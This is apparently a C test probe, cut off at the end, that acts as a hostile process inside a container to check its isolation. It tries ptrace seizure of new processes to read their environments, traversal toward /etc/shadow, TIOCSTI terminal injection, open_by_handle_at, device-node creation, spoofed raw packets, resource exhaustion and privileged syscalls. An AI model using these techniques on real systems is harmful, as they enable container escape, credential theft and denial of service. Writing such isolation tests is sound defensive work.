/* What a hostile process inside of a container tries. One static program: busybox has no ptrace, no
 * exchange of names, no raw sockets, no foreign system calls.
 *
 * Each attempt is a line `NAME RESULT`, where RESULT is `ok` with what was gained, or the name of an
 * errno. The last line is `done COMMAND`: a test asserts it, so that an attempt which was never made
 * is not taken for one that failed. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <grp.h>
#include <linux/capability.h>
#include <linux/fuse.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <mqueue.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *why(void) {
  const char *name = strerrorname_np(errno);
  return name ? name : "unknown";
}

/* One attempt's line: `ok` where it went well. */
static void report(const char *name, long result) {
  if (result < 0) printf("%s %s\n", name, why());
  else printf("%s ok %ld\n", name, result);
  fflush(stdout);
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

static long number(const char *text) { return strtol(text, NULL, 0); }

/* The first bytes of a file, on one line. */
static int first(int folder, const char *path, char *text, size_t size) {
  int fd = openat(folder, path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t length = read(fd, text, size - 1);
  close(fd);
  if (length < 0) return -1;
  text[length] = 0;
  for (char *at = text; *at; at++)
    if (*at == '\n') *at = ' ';
  return 0;
}

/* ---- where am I ---------------------------------------------------------------------------- */

/* cwd CANARY: where this process is, and whether a way up from here leads to the host's file. */
static int cwd(char **arguments) {
  char text[4096], path[4096 + 64], up[64] = "";
  printf("getcwd %s\n", syscall(SYS_getcwd, text, sizeof text) > 0 ? text : why());
  ssize_t length = readlink("/proc/self/cwd", text, sizeof text - 1);
  if (length >= 0) text[length] = 0;
  printf("link %s\n", length < 0 ? why() : text);
  const char *canary = arguments[0] ? arguments[0] : "etc/shadow";
  while (*canary == '/') canary++;
  for (int depth = 0; depth <= 12; depth++) {
    snprintf(path, sizeof path, "%s%s", up, canary);
    if (!first(AT_FDCWD, path, text, sizeof text)) printf("canary at depth %d: %s\n", depth, text);
    strcat(up, "../");
  }
  return 0;
}

static void describe_fds(const char *folder) {
  DIR *open = opendir(folder);
  if (!open) {
    printf("fds %s\n", why());
    return;
  }
  for (struct dirent *entry; (entry = readdir(open));) {
    char text[4096];
    struct stat stat = {0};
    if (entry->d_name[0] == '.' || atoi(entry->d_name) == dirfd(open)) continue;
    ssize_t length = readlinkat(dirfd(open), entry->d_name, text, sizeof text - 1);
    text[length < 0 ? 0 : length] = 0;
    fstatat(dirfd(open), entry->d_name, &stat, 0);
    printf("fd %s %s %s\n", entry->d_name, S_ISDIR(stat.st_mode) ? "folder" : "other",
           length < 0 ? why() : text);
  }
  closedir(open);
}

/* fds: what this process holds open. */
static int fds(char **arguments) {
  describe_fds(arguments[0] ? arguments[0] : "/proc/self/fd");
  return 0;
}

/* caps: who this process is, and what it may. */
static int caps(char **arguments) {
  (void)arguments;
  char line[256];
  FILE *status = fopen("/proc/self/status", "r");
  while (status && fgets(line, sizeof line, status))
    if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) || !strncmp(line, "Seccomp:", 8) ||
        !strncmp(line, "Uid", 3) || !strncmp(line, "Gid", 3) || !strncmp(line, "Groups", 6))
      fputs(line, stdout);
  return 0;
}

/* ---- at those who enter --------------------------------------------------------------------- */

static const char *canary_text;

/* Looks at a process through everything that /proc shows of it. */
static void look_at(int pid, int stopped) {
  char path[64], text[8192];
  snprintf(path, sizeof path, "/proc/%d", pid);
  int folder = open(path, O_PATH | O_DIRECTORY);
  if (folder < 0) return;
  FILE *status = fdopen(openat(folder, "status", O_RDONLY), "r");
  while (status && fgets(text, sizeof text, status))
    if (!strncmp(text, "CapEff", 6) || !strncmp(text, "CapBnd", 6)) printf("pid %d %s", pid, text);
  if (status) fclose(status);
  struct stat stat;
  int got = fstatat(folder, "exe", &stat, 0);
  if (!got) printf("pid %d exe %u:%u %lu\n", pid, major(stat.st_dev), minor(stat.st_dev), stat.st_ino);
  if (!first(folder, "environ", text, sizeof text)) {
    int length = 0, fd = openat(folder, "environ", O_RDONLY);
    if (fd >= 0) length = read(fd, text, sizeof text - 1), close(fd);
    for (int at = 0; at < length; at += strlen(text + at) + 1) printf("pid %d env %s\n", pid, text + at);
  }
  int list = openat(folder, "fd", O_RDONLY | O_DIRECTORY);
  DIR *open_fds = list < 0 ? NULL : fdopendir(list);
  for (struct dirent *entry; open_fds && (entry = readdir(open_fds));) {
    if (entry->d_name[0] == '.') continue;
    ssize_t length = readlinkat(list, entry->d_name, text, sizeof text - 1);
    text[length < 0 ? 0 : length] = 0;
    printf("pid %d fd %s %s\n", pid, entry->d_name, text);
    for (int depth = 0; canary_text && depth < 12; depth++) {
      char up[256];
      int used = snprintf(up, sizeof up, "%s/", entry->d_name);
      for (int at = 0; at < depth; at++) used += snprintf(up + used, sizeof up - used, "../");
      snprintf(up + used, sizeof up - used, "%s", canary_text + (*canary_text == '/'));
      if (!first(list, up, text, sizeof text)) printf("pid %d fd %s canary: %s\n", pid, entry->d_name, text);
    }
  }
  if (open_fds) closedir(open_fds);
  if (stopped) {
    char maps[64];
    snprintf(maps, sizeof maps, "/proc/%d/cwd", pid);
    ssize_t length = readlink(maps, text, sizeof text - 1);
    text[length < 0 ? 0 : length] = 0;
    printf("pid %d cwd %s\n", pid, text);
  }
  close(folder);
}

/* The pids that are there now, in a table of flags. */
static int scan(unsigned char *seen, int *found, int room) {
  DIR *proc = opendir("/proc");
  int count = 0;
  for (struct dirent *entry; proc && (entry = readdir(proc));) {
    int pid = atoi(entry->d_name);
    if (pid <= 0 || pid >= 1 << 22 || seen[pid]) continue;
    seen[pid] = 1;
    if (count < room) found[count++] = pid;
  }
  if (proc) closedir(proc);
  return count;
}

/* ptrace-new SECONDS [CANARY]: stops each new process right after it appears, and looks at it. */
static int ptrace_new(char **arguments) {
  static unsigned char seen[1 << 22];
  int found[64], tries = 0, seized = 0;
  canary_text = arguments[1];
  scan(seen, found, 64);
  printf("ready\n");
  fflush(stdout);
  for (double end = now() + number(arguments[0]); now() < end;) {
    int count = scan(seen, found, 64);
    for (int at = 0; at < count; at++) {
      int pid = found[at];
      tries++;
      if (ptrace(PTRACE_SEIZE, pid, 0, 0)) {
        printf("pid %d seize %s\n", pid, why());
        look_at(pid, 0);
        continue;
      }
      seized++;
      ptrace(PTRACE_INTERRUPT, pid, 0, 0);
      for (double patience = now() + 2; waitpid(pid, NULL, __WALL | WNOHANG) == 0 && now() < patience;);
      look_at(pid, 1);
      ptrace(PTRACE_DETACH, pid, 0, 0);
    }
  }
  printf("tried %d seized %d\n", tries, seized);
  return 0;
}

/* watch-exe SECONDS: keeps the program file of each new process open, and writes to it once nobody
 * runs it any more. A process that cannot be looked at yet is tried again for as long as it is there:
 * it may be about to execute. */
static int watch_exe(char **arguments) {
  static unsigned char seen[1 << 22];
  int found[256], held[512], waiting = 0, count = 0, tries = 0;
  scan(seen, found, 256);
  printf("ready\n");
  fflush(stdout);
  for (double end = now() + number(arguments[0]); now() < end;) {
    int there = waiting + scan(seen, found + waiting, 256 - waiting);
    waiting = 0;
    for (int at = 0; at < there; at++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", found[at]);
      tries++;
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0 && errno == EACCES) found[waiting++] = found[at];
      if (fd < 0) continue;
      struct stat its, own;
      struct statfs system;
      if (fstat(fd, &its) || fstatfs(fd, &system) || stat("/proc/self/exe", &own)) continue;
      printf("exe %s %u:%u %lu on %lx\n", its.st_dev == own.st_dev ? "own" : "foreign", major(its.st_dev),
             minor(its.st_dev), its.st_ino, (long)system.f_type);
      if (count < 512) held[count++] = fd;
      else close(fd);
    }
    for (int at = 0; at < count; at++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[at]);
      int fd = open(path, O_WRONLY | O_CLOEXEC);
      struct stat own, other;
      if (fd < 0 || fstat(fd, &other) || stat("/proc/self/exe", &own)) continue;
      /* The container's own files may be written to. */
      if (own.st_dev != other.st_dev)
        printf("opened for writing %u:%u %lu\n", major(other.st_dev), minor(other.st_dev), other.st_ino);
      close(fd);
    }
  }
  printf("looked at %d, held %d\n", tries, count);
  return 0;
}

/* chmod-stdio: modes and owners of what lies behind descriptors 0 to 2. */
static int chmod_stdio(char **arguments) {
  (void)arguments;
  for (int fd = 0; fd < 3; fd++) {
    struct stat stat;
    char name[32], link[4096] = "", path[32];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (fstat(fd, &stat) || !S_ISCHR(stat.st_mode)) {
      printf("stdio %d is no device\n", fd);
      continue;
    }
    ssize_t length = readlink(path, link, sizeof link - 1);
    printf("stdio %d device %u:%u inode %u:%u %lu %.*s\n", fd, major(stat.st_rdev), minor(stat.st_rdev),
           major(stat.st_dev), minor(stat.st_dev), stat.st_ino, (int)(length < 0 ? 0 : length), link);
    snprintf(name, sizeof name, "fchmod %d", fd);
    report(name, fchmod(fd, 0600));
    snprintf(name, sizeof name, "fchown %d", fd);
    report(name, fchown(fd, 12345, 12345));
  }
  return 0;
}

/* ---- system calls --------------------------------------------------------------------------- */

/* syscall NR ARGS...: as this architecture has it. */
static int native(char **arguments) {
  long values[7] = {0};
  for (int at = 0; at < 7 && arguments[at]; at++) values[at] = number(arguments[at]);
  long result = syscall(values[0], values[1], values[2], values[3], values[4], values[5], values[6]);
  printf("syscall %ld ", values[0]);
  report("", result);
  return 0;
}

/* In a child: a filter may kill whoever tries. */
static void apart(const char *name, long (*attempt)(void *), void *argument) {
  fflush(stdout);
  int child = fork();
  if (!child) {
    report(name, attempt(argument));
    _exit(0);
  }
  int status = 0;
  waitpid(child, &status, 0);
  if (WIFSIGNALED(status)) printf("%s killed by %s\n", name, sigabbrev_np(WTERMSIG(status)));
  fflush(stdout);
}

#ifdef __x86_64__
static long as_x32(void *argument) { return syscall(0x40000000 | *(long *)argument, "/x32-was-here", 0777, 0, 0, 0, 0); }

/* The kernel takes arguments of 32 bits here: the path lies low in memory. */
static long as_int80(void *argument) {
  char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
  if (low == MAP_FAILED) return -1;
  strcpy(low, "/int80-was-here");
  long result;
  asm volatile("int $0x80" : "=a"(result) : "a"(*(long *)argument), "b"(low), "c"(0777), "d"(0) : "memory", "r8", "r9", "r10", "r11");
  if (result < 0) errno = -result, result = -1;
  return result;
}
#endif

static int foreign(char **arguments, const char *name, long (*attempt)(void *)) {
  for (; *arguments; arguments++) {
    char label[64];
    long call = number(*arguments);
    snprintf(label, sizeof label, "%s %ld", name, call);
    apart(label, attempt, &call);
  }
  return 0;
}

static int x32(char **arguments) {
#ifdef __x86_64__
  return foreign(arguments, "x32", as_x32);
#else
  (void)arguments, puts("x32 ENOSYS");
  return 0;
#endif
}

static int int80(char **arguments) {
#ifdef __x86_64__
  return foreign(arguments, "int80", as_int80);
#else
  (void)arguments, puts("int80 ENOSYS");
  return 0;
#endif
}

/* socket FAMILY TYPE PROTOCOL */
static int open_socket(char **arguments) {
  char name[64];
  snprintf(name, sizeof name, "socket %s", arguments[0]);
  report(name, socket(number(arguments[0]), number(arguments[1]), number(arguments[2])));
  return 0;
}

struct call {
  const char *name;
  long number, a, b, c, d, e;
};

static long make(void *argument) {
  struct call *call = argument;
  return syscall(call->number, call->a, call->b, call->c, call->d, call->e, 0);
}

static long fork_like(void *argument) {
  struct call *call = argument;
  long result = syscall(call->number, call->a, call->b, call->c, call->d, call->e);
  if (!result) _exit(0);
  return result;
}

/* calls: what a default profile leaves to nobody, each with arguments that would do something. */
static int calls(char **arguments) {
  (void)arguments;
  static const long flags[] = {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNET, CLONE_NEWUTS, CLONE_NEWIPC, CLONE_NEWCGROUP, 0x80 /* time */};
  static const char *names[] = {"user", "mnt", "pid", "net", "uts", "ipc", "cgroup", "time"};
  for (int at = 0; at < 8; at++) {
    char name[64], path[64];
    snprintf(name, sizeof name, "unshare-%s", names[at]);
    apart(name, make, &(struct call){"", SYS_unshare, flags[at]});
    /* 0x80 of clone is part of the exit signal's byte. */
    if (flags[at] != 0x80) {
      snprintf(name, sizeof name, "clone-%s", names[at]);
      apart(name, fork_like, &(struct call){"", SYS_clone, flags[at] | SIGCHLD});
    }
    snprintf(name, sizeof name, "clone3-%s", names[at]);
    unsigned long long wanted[8] = {flags[at], 0, 0, 0, SIGCHLD};
    apart(name, fork_like, &(struct call){"", SYS_clone3, (long)wanted, sizeof wanted});
    snprintf(name, sizeof name, "setns-%s", names[at]);
    snprintf(path, sizeof path, "/proc/self/ns/%s", names[at]);
    apart(name, make, &(struct call){"", SYS_setns, open(path, O_RDONLY), flags[at]});
  }
  static char memory[4096];
  struct call list[] = {
    {"io_uring_setup", SYS_io_uring_setup, 4, (long)memory},
    {"keyctl", SYS_keyctl, 0, -3, 1},
    {"add_key", SYS_add_key, (long)"user", (long)"prober", (long)"x", 1, -3},
    {"request_key", SYS_request_key, (long)"user", (long)"prober", 0, -3},
    {"bpf", SYS_bpf, 0, (long)memory, 64},
    {"perf_event_open", SYS_perf_event_open, (long)memory, 0, -1, -1, 0},
    {"userfaultfd", SYS_userfaultfd, 1},
    {"open_by_handle_at", SYS_open_by_handle_at, AT_FDCWD, (long)memory, 0},
    {"kexec_load", SYS_kexec_load, 0, 0, 0, 0},
    {"kexec_file_load", SYS_kexec_file_load, -1, -1, 0, 0, 0},
    {"init_module", SYS_init_module, (long)memory, 1, (long)""},
    {"finit_module", SYS_finit_module, 0, (long)"", 0},
    {"delete_module", SYS_delete_module, (long)"prober_none", 0},
    {"mount", SYS_mount, (long)"none", (long)"/tmp", (long)"tmpfs", 0, 0},
    {"umount2", SYS_umount2, (long)"/proc/sys", 2},
    {"pivot_root", SYS_pivot_root, (long)"/", (long)"/tmp"},
    {"fsopen", SYS_fsopen, (long)"tmpfs", 0},
    {"open_tree", SYS_open_tree, AT_FDCWD, (long)"/", 1},
    {"move_mount", SYS_move_mount, -1, (long)"", AT_FDCWD, (long)"/tmp", 4},
    {"mount_setattr", SYS_mount_setattr, AT_FDCWD, (long)"/", 0, (long)memory, 32},
    {"swapon", SYS_swapon, (long)"/none", 0},
    {"reboot", SYS_reboot, 0xfee1dead, 672274793, 0},
    {"settimeofday", SYS_settimeofday, (long)memory, 0},
    {"clock_settime", SYS_clock_settime, CLOCK_REALTIME, (long)memory},
    {"acct", SYS_acct, (long)"/none"},
    {"syslog", SYS_syslog, 3, (long)memory, 64},
    {"sethostname", SYS_sethostname, (long)"taken", 5},
    {"setdomainname", SYS_setdomainname, (long)"taken", 5},
    {"quotactl", SYS_quotactl, 0x800001 << 8, 0, 0, 0},
    {"fanotify_init", SYS_fanotify_init, 0, 0},
    {"lookup_dcookie", SYS_lookup_dcookie, 0, (long)memory, 64},
    {"kcmp", SYS_kcmp, getpid(), 1, 0, 0, 0},
    {"move_pages", SYS_move_pages, 0, 0, 0, 0, 0},
    {"migrate_pages", SYS_migrate_pages, 0, 0, 0, 0},
    {"unknown", 9999},
    {"personality-high", SYS_personality, 0x0040000},
#ifdef __x86_64__
    {"iopl", SYS_iopl, 3},
    {"ioperm", SYS_ioperm, 0x80, 1, 1},
    {"uselib", SYS_uselib, (long)"/bin/busybox"},
    {"ustat", SYS_ustat, 0, (long)memory},
    {"sysfs", SYS_sysfs, 3},
    {"_sysctl", SYS__sysctl, (long)memory},
#endif
  };
  for (size_t at = 0; at < sizeof list / sizeof *list; at++) apart(list[at].name, make, &list[at]);
  return 0;
}

static long one_socket(void *argument) {
  struct call *call = argument;
  return socket(call->a, call->b, call->c);
}

/* sockets: every family that a container has no business with, and the upper half of an argument. */
static int sockets(char **arguments) {
  (void)arguments;
  apart("AF_ALG", one_socket, &(struct call){"", 0, 38, SOCK_SEQPACKET, 0});
  apart("AF_VSOCK", one_socket, &(struct call){"", 0, 40, SOCK_STREAM, 0});
  apart("AF_ALG-high", make, &(struct call){"", SYS_socket, 0x100000000 | 38, SOCK_SEQPACKET, 0});
  apart("AF_VSOCK-high", make, &(struct call){"", SYS_socket, 0x100000000 | 40, SOCK_STREAM, 0});
  apart("AF_VSOCK-negative", make, &(struct call){"", SYS_socket, (long)0xffffffff00000000 | 40, SOCK_STREAM, 0});
  static const struct { const char *name; int family; } old[] = {
    {"AF_AX25", 3}, {"AF_IPX", 4}, {"AF_APPLETALK", 5}, {"AF_X25", 9}, {"AF_RDS", 21}, {"AF_CAN", 29},
    {"AF_TIPC", 30}, {"AF_BLUETOOTH", 31}, {"AF_KCM", 41}, {"AF_QIPCRTR", 42}, {"AF_SMC", 43}, {"AF_XDP", 44}};
  for (size_t at = 0; at < sizeof old / sizeof *old; at++)
    apart(old[at].name, one_socket, &(struct call){"", 0, old[at].family, SOCK_DGRAM, 0});
  return 0;
}

/* One ioctl with garbage above bit 31, which the kernel ignores and a filter may not. */
static long inject(void *argument) {
  struct call *call = argument;
  return syscall(SYS_ioctl, call->a, call->b, call->c);
}

/* tiocsti TEXT: types into every terminal that this process can name. */
static int tiocsti(char **arguments) {
  const char *paths[] = {"/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/proc/1/fd/0", "/dev/tty1"};
  int list[16] = {0, 1, 2}, count = 3;
  for (size_t at = 0; at < sizeof paths / sizeof *paths; at++) {
    int fd = open(paths[at], O_RDWR | O_NOCTTY | O_NONBLOCK);
    if (fd >= 0) list[count++] = fd;
    else printf("open %s %s\n", paths[at], why());
  }
  for (int at = 0; at < count; at++) {
    char name[64], screen[128] = {2};
    for (const char *letter = arguments[0]; *letter; letter++) {
      snprintf(name, sizeof name, "TIOCSTI %d", list[at]);
      if (letter == arguments[0]) apart(name, inject, &(struct call){"", 0, list[at], 0x5412, (long)letter});
      else ioctl(list[at], 0x5412, letter);
    }
    snprintf(name, sizeof name, "TIOCSTI-high %d", list[at]);
    apart(name, inject, &(struct call){"", 0, list[at], 0x100005412, (long)arguments[0]});
    snprintf(name, sizeof name, "TIOCLINUX %d", list[at]);
    apart(name, inject, &(struct call){"", 0, list[at], 0x541c, (long)screen});
  }
  return 0;
}

/* ---- files, devices, file systems ------------------------------------------------------------ */

static int written;

static int try_to_write(const char *path, const struct stat *stat, int kind, struct FTW *where) {
  (void)where;
  if (kind == FTW_D || kind == FTW_DNR) {
    const char *name = strncmp(path, "/proc/", 6) ? "" : path + 6;
    if ((*name >= '0' && *name <= '9') || !strcmp(name, "self") || !strcmp(name, "thread-self")) return FTW_SKIP_SUBTREE;
    return FTW_CONTINUE;
  }
  if (kind == FTW_SL || !S_ISREG(stat->st_mode)) return FTW_CONTINUE;
  int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
  written++;
  if (fd < 0) return FTW_CONTINUE;
  printf("writable %s\n", path);
  close(fd);
  return FTW_CONTINUE;
}

/* write-walk DIR...: the files below that open for writing. Nothing is written. */
static int write_walk(char **arguments) {
  for (; *arguments; arguments++) nftw(*arguments, try_to_write, 32, FTW_PHYS | FTW_ACTIONRETVAL);
  printf("tried %d\n", written);
  return 0;
}

/* mknod-open FOLDER, then TYPE MAJOR MINOR...: makes nodes and opens them. */
static int mknod_open(char **arguments) {
  const char *folder = *arguments++;
  for (; arguments[0] && arguments[1] && arguments[2]; arguments += 3) {
    char path[256], name[64];
    int block = *arguments[0] == 'b';
    snprintf(path, sizeof path, "%s/node-%s-%s-%s", folder, arguments[0], arguments[1], arguments[2]);
    unlink(path);
    int made = mknod(path, (block ? S_IFBLK : S_IFCHR) | 0666, makedev(number(arguments[1]), number(arguments[2])));
    if (made) {
      snprintf(name, sizeof name, "mknod %s:%s:%s", arguments[0], arguments[1], arguments[2]);
      report(name, made);
      continue;
    }
    static const struct { const char *word; int flags; } ways[] = {{"read", O_RDONLY}, {"write", O_WRONLY}};
    for (int at = 0; at < 2; at++) {
      snprintf(name, sizeof name, "%s %s:%s:%s", ways[at].word, arguments[0], arguments[1], arguments[2]);
      report(name, open(path, ways[at].flags | O_NONBLOCK | O_CLOEXEC));
    }
  }
  return 0;
}

/* open PATH FLAGS: `r`, `w` or `rw`. */
static int open_paths(char **arguments) {
  for (; arguments[0] && arguments[1]; arguments += 2) {
    char name[300];
    int flags = !strcmp(arguments[1], "r") ? O_RDONLY : !strcmp(arguments[1], "w") ? O_WRONLY : O_RDWR;
    snprintf(name, sizeof name, "open %s %s", arguments[0], arguments[1]);
    report(name, open(arguments[0], flags | O_NONBLOCK | O_CLOEXEC));
  }
  return 0;
}

/* open-by-handle PATH...: inode 2 of the file system that each lies on. */
static int open_by_handle(char **arguments) {
  for (; *arguments; arguments++) {
    struct { struct file_handle head; unsigned inode, generation; char rest[120]; } handle = {0};
    int mount = open(*arguments, O_RDONLY), id;
    char name[300];
    handle.head.handle_bytes = 128;
    snprintf(name, sizeof name, "name_to_handle_at %s", *arguments);
    report(name, name_to_handle_at(AT_FDCWD, *arguments, &handle.head, &id, 0));
    handle.inode = 2, handle.generation = 0, handle.head.handle_bytes = 8, handle.head.handle_type = 1;
    snprintf(name, sizeof name, "open_by_handle_at %s", *arguments);
    report(name, open_by_handle_at(mount, &handle.head, O_RDONLY));
  }
  return 0;
}

/* exchange A B SECONDS: two names change places, over and over. */
static int exchange(char **arguments) {
  long rounds = 0, failed = 0;
  printf("ready\n");
  fflush(stdout);
  for (double end = now() + number(arguments[2]); now() < end; rounds++)
    failed += syscall(SYS_renameat2, AT_FDCWD, arguments[0], AT_FDCWD, arguments[1], 2) != 0;
  printf("rounds %ld failed %ld\n", rounds, failed);
  return 0;
}

/* A conversation with the container's own name server. */
static int name_server(void) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
  inet_pton(AF_INET, "127.0.0.11", &to.sin_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  return connect(fd, (void *)&to, sizeof to) ? -1 : fd;
}

/* hold-names NUMBER: so many conversations at a time, each made anew before it is cut off. */
static int hold_names(char **arguments) {
  int held[1024], wanted = number(arguments[0]);
  for (int at = 0; at < wanted; at++) held[at] = name_server();
  printf("held names\ndone hold\n");
  fflush(stdout);
  for (int at = 0;; at = (at + 1) % wanted) {
    close(held[at]);
    held[at] = name_server();
    usleep(6000000 / wanted);
  }
}

/* hold KIND NUMBER: as many as there are, until killed. */
static int hold(char **arguments) {
  const char *kind = arguments[0];
  long wanted = number(arguments[1]), count = 0;
  for (; count < wanted; count++) {
    int ends[2], result = -1;
    if (!strcmp(kind, "inotify")) result = inotify_init1(0);
    else if (!strcmp(kind, "watches")) {
      static int instance = -1;
      char path[64];
      if (instance < 0) instance = inotify_init1(0);
      snprintf(path, sizeof path, "/tmp/watched-%ld", count);
      close(open(path, O_CREAT | O_WRONLY, 0600));
      result = inotify_add_watch(instance, path, IN_MODIFY);
    }
    else if (!strcmp(kind, "epoll")) result = epoll_create1(0);
    else if (!strcmp(kind, "eventfd")) result = eventfd(0, 0);
    else if (!strcmp(kind, "pty")) result = open("/dev/ptmx", O_RDWR | O_NOCTTY);
    else if (!strcmp(kind, "pipe")) result = pipe(ends) ? -1 : fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
    else if (!strcmp(kind, "mqueue")) {
      char name[64];
      snprintf(name, sizeof name, "/prober-%ld", count);
      result = mq_open(name, O_CREAT | O_RDWR, 0600, NULL);
    }
    else if (!strcmp(kind, "msgqueue")) result = msgget(IPC_PRIVATE, 0600);
    else if (!strcmp(kind, "process")) {
      result = fork();
      if (!result) pause();
    }
    else if (!strcmp(kind, "file")) {
      char path[64];
      snprintf(path, sizeof path, "/dev/shm/held-%ld", count);
      result = open(path, O_CREAT | O_WRONLY, 0600);
      if (result >= 0) close(result);
    }
    else if (!strcmp(kind, "socket")) result = socket(AF_INET, SOCK_DGRAM, 0);
    if (result < 0) break;
  }
  printf("held %s %ld: %s\n", kind, count, count < wanted ? why() : "all");
  printf("done hold\n");
  fflush(stdout);
  for (;;) pause();
}

/* flows ADDRESS NUMBER: so many UDP flows, each a line in the host's connection tracking. */
static int flows(char **arguments) {
  struct sockaddr_in to = {.sin_family = AF_INET};
  inet_pton(AF_INET, arguments[0], &to.sin_addr);
  int socket_fd = socket(AF_INET, SOCK_DGRAM, 0);
  long sent = 0;
  for (long at = 0; at < number(arguments[1]); at++) {
    to.sin_port = htons(1024 + at % 60000);
    if (at % 60000 == 0) close(socket_fd), socket_fd = socket(AF_INET, SOCK_DGRAM, 0);
    sent += sendto(socket_fd, "x", 1, 0, (void *)&to, sizeof to) == 1;
  }
  printf("sent %ld\n", sent);
  return 0;
}

/* ---- neighbours ------------------------------------------------------------------------------ */

/* ipc-make NAME / ipc-look NAME: what is shared by name, or is not. */
static int ipc(char **arguments, int flags) {
  char path[128], name[128];
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  snprintf(address.sun_path + 1, 100, "%s", arguments[0]);
  socklen_t length = sizeof(sa_family_t) + 1 + strlen(arguments[0]);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (flags) report("abstract", bind(fd, (void *)&address, length) ? -1 : listen(fd, 1));
  else report("abstract", connect(fd, (void *)&address, length));
  report("shm-sysv", shmget(0x6b65, 4096, flags | 0666));
  report("msg-sysv", msgget(0x6b65, flags | 0666));
  snprintf(path, sizeof path, "/%s", arguments[0]);
  report("mqueue", flags ? mq_open(path, O_CREAT | O_RDWR, 0666, NULL) : mq_open(path, O_RDWR));
  snprintf(name, sizeof name, "/dev/shm/%s", arguments[0]);
  report("shm-posix", open(name, flags ? O_CREAT | O_RDWR : O_RDWR, 0666));
  return 0;
}

static int ipc_make(char **arguments) {
  ipc(arguments, IPC_CREAT);
  printf("done ipc-make\n");
  fflush(stdout);
  for (;;) pause();
}

static int ipc_look(char **arguments) { return ipc(arguments, 0); }

/* keyring NAME: the session's keyring, a key of this name in it, one of the user's. */
static int keyring(char **arguments) {
  char text[4096];
  for (int at = 0; at < 2; at++) {
    static const struct { const char *name; long number; } rings[] = {{"session", -3}, {"user", -4}};
    long serial = syscall(SYS_keyctl, 0, rings[at].number, 0);
    printf("%s-id ", rings[at].name);
    report("", serial);
    snprintf(text, sizeof text, "%s-search", rings[at].name);
    report(text, syscall(SYS_keyctl, 10, rings[at].number, "user", arguments[0], 0));
  }
  return 0;
}

/* kill-all: every pid but one's own and the first; none of them is the host's. */
static int kill_all(char **arguments) {
  (void)arguments;
  int reached = 0;
  for (int pid = 2; pid < 1 << 16; pid++)
    if (pid != getpid() && pid != getppid() && kill(pid, 0) == 0) printf("reached %d\n", pid), reached++;
  printf("reached-all %d\n", reached);
  return 0;
}

/* ---- network ---------------------------------------------------------------------------------- */

static unsigned short sum(const void *bytes, int length) {
  const unsigned short *words = bytes;
  unsigned total = 0;
  for (; length > 1; length -= 2) total += *words++;
  if (length) total += *(const unsigned char *)words;
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  return ~total;
}

/* raw-udp FROM TO PORT TEXT: a packet whose source is made up. */
static int raw_udp(char **arguments) {
  char packet[512] = {0};
  struct iphdr *ip = (void *)packet;
  struct udphdr *udp = (void *)(packet + sizeof *ip);
  int text = strlen(arguments[3]), fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  memcpy(packet + sizeof *ip + sizeof *udp, arguments[3], text);
  udp->source = htons(4444), udp->dest = htons(number(arguments[2])), udp->len = htons(sizeof *udp + text);
  ip->version = 4, ip->ihl = 5, ip->ttl = 64, ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons(sizeof *ip + sizeof *udp + text);
  inet_pton(AF_INET, arguments[0], &ip->saddr);
  inet_pton(AF_INET, arguments[1], &ip->daddr);
  ip->check = sum(ip, sizeof *ip);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = {ip->daddr}};
  report("raw-udp", fd < 0 ? -1 : sendto(fd, packet, sizeof *ip + sizeof *udp + text, 0, (void *)&to, sizeof to));
  return 0;
}

/* Below IP: the caller's interface and its addresses. */
static int packet_socket(const char *interface, unsigned char *own, struct sockaddr_ll *to) {
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  struct ifreq request = {0};
  strncpy(request.ifr_name, interface, IFNAMSIZ - 1);
  if (fd < 0 || ioctl(fd, SIOCGIFINDEX, &request)) return -1;
  *to = (struct sockaddr_ll){.sll_family = AF_PACKET, .sll_ifindex = request.ifr_ifindex, .sll_halen = 6};
  if (ioctl(fd, SIOCGIFHWADDR, &request)) return -1;
  memcpy(own, request.ifr_hwaddr.sa_data, 6);
  return fd;
}

/* frame-udp INTERFACE MAC FROM TO PORT TEXT: the same below the routing of this namespace. */
static int frame_udp(char **arguments) {
  unsigned char frame[600] = {0}, own[6];
  struct sockaddr_ll to;
  int fd = packet_socket(arguments[0], own, &to);
  unsigned mac[6];
